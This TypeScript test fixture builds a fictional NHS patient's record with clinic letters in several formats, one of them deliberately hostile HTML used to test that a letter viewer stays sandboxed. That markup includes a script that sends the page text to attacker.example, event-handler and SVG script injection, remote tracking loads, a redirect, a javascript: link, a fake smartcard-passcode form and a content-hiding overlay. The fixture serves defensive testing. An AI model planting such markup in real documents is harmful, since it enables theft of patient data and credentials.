import { practiceLife } from '../life.ts';
import { testNhsNumber } from '../nhs-numbers.ts';
import { openResident } from '../patient.ts';
import type { Resident } from '../patient.ts';
import type { Random } from '../random.ts';
import { SOURCES } from '../sources.ts';
import { letter } from '../write/letters.ts';

/**
 * Hostile markup as a letter could carry it. Sandbox test material: a viewer must show the words and run, load,
 * submit or follow nothing. `example` hosts cannot exist.
 */
const HOSTILE_HTML = [
  '<!doctype html><html><head><title>Clinic letter</title>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/away">',
  '<base href="https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/a.css">',
  '<style>@import url("https://attacker.example/b.css"); body { background: url(https://attacker.example/c.png) }</style>',
  '<script>window.hostileLetterRan = true; fetch("https://attacker.example/steal?" + document.body.innerText)</script>',
  '</head><body onload="window.hostileLetterRan = true">',
  '<h1>Dermatology clinic letter</h1><p>The mole on her back is harmless.</p>',
  '<img src="https://attacker.example/pixel.png" alt="tracking" onerror="window.hostileLetterRan = true">',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hostileLetterRan = true"><script>window.hostileLetterRan = true</script></svg>',
  '<iframe src="https://attacker.example/frame"></iframe><object data="https://attacker.example/o"></object>',
  '<form action="https://attacker.example/password" method="post"><label>NHS smartcard passcode ',
  '<input name="passcode" type="password"></label><button>Continue</button></form>',
  '<a href="javascript:window.hostileLetterRan=true">See the photograph</a>',
  '<p style="position:fixed;inset:0;background:white">Allergies: none</p>',
  '<p>No follow-up is needed.</p></body></html>',
].join('\n');

/** Mrs Patricia Holt: letters in every format, and one that is hostile. */
export function letterResident(random: Random): Resident {
  const resident = openResident(
    random,
    {
      patientId: 'patricia-holt',
      nhsNumber: testNhsNumber(26),
      prefix: 'Mrs',
      given: ['Patricia'],
      family: 'Holt',
      born: '1953-07-19',
      gender: 'female',
      address: ['64 Fictional Way', 'WA9 1AK'],
      practice: SOURCES.sankeyBrook,
    },
    {
      story:
        'Letters as HTML, PDF and plain text, as Binary and within the DocumentReference; one has hostile markup ' +
        '(script, remote image, form).',
    },
  );
  const hospital = resident.chart.at(SOURCES.whiston);
  const gp = resident.chart.at(SOURCES.sankeyBrook);
  letter(hospital, {
    title: 'Rheumatology clinic letter',
    day: '2026-03-11',
    staff: 4,
    format: 'html',
    paragraphs: [
      'Diagnosis: polymyalgia rheumatica, in remission.',
      'Prednisolone down to 2.5 mg a day; stop in eight weeks if well. Inflammatory markers < 5 & stable.',
    ],
  });
  letter(hospital, {
    title: 'Dermatology clinic letter',
    day: '2026-05-20',
    staff: 4,
    format: 'html',
    html: HOSTILE_HTML,
    paragraphs: [],
  });
  letter(hospital, {
    title: 'Discharge summary, day case',
    kind: 'Discharge summary',
    day: '2026-06-02',
    staff: 4,
    format: 'pdf',
    paragraphs: [
      'Admitted as a day case for gastroscopy on 02-Jun-2026. Findings: small hiatus hernia, no ulcer.',
      'Medicines unchanged. No follow-up at the hospital.',
    ],
  });
  letter(resident.chart.at(SOURCES.communityNursing), {
    title: 'Podiatry report',
    day: '2026-08-04',
    format: 'text',
    staff: 2,
    paragraphs: ['Feet checked. Pulses present, sensation normal.', 'Insoles ordered: left 5 mm, right 5 mm.'],
  });
  letter(gp, {
    title: 'Letter to the patient: bowel screening result',
    day: '2026-09-09',
    format: 'text',
    inline: true,
    paragraphs: ['Your bowel screening result was normal. No further tests are needed now.'],
  });
  practiceLife(gp, { fromYear: 2021, toYear: 2026, visits: 2 });
  return resident;
}
